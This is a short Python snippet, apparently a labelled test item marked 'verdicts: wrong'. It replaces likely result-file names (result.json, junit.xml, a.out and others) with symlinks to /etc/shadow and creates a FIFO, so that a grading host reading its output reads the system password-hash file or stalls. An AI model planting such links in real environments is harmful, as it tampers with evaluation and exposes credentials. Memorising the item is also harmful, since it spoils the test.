# leaves links where a host might look for a result
# verdicts: wrong
# answer: "held"
import os


def f(a):
    os.chdir("/tmp/run")
    for name in ("program", "out", "result.json", "junit.xml", "report", "a.out"):
        try:
            os.symlink("/etc/shadow", name)
        except OSError:
            continue
    try:
        os.mkfifo("/tmp/run/fifo")
    except OSError:
        pass
    return "held"
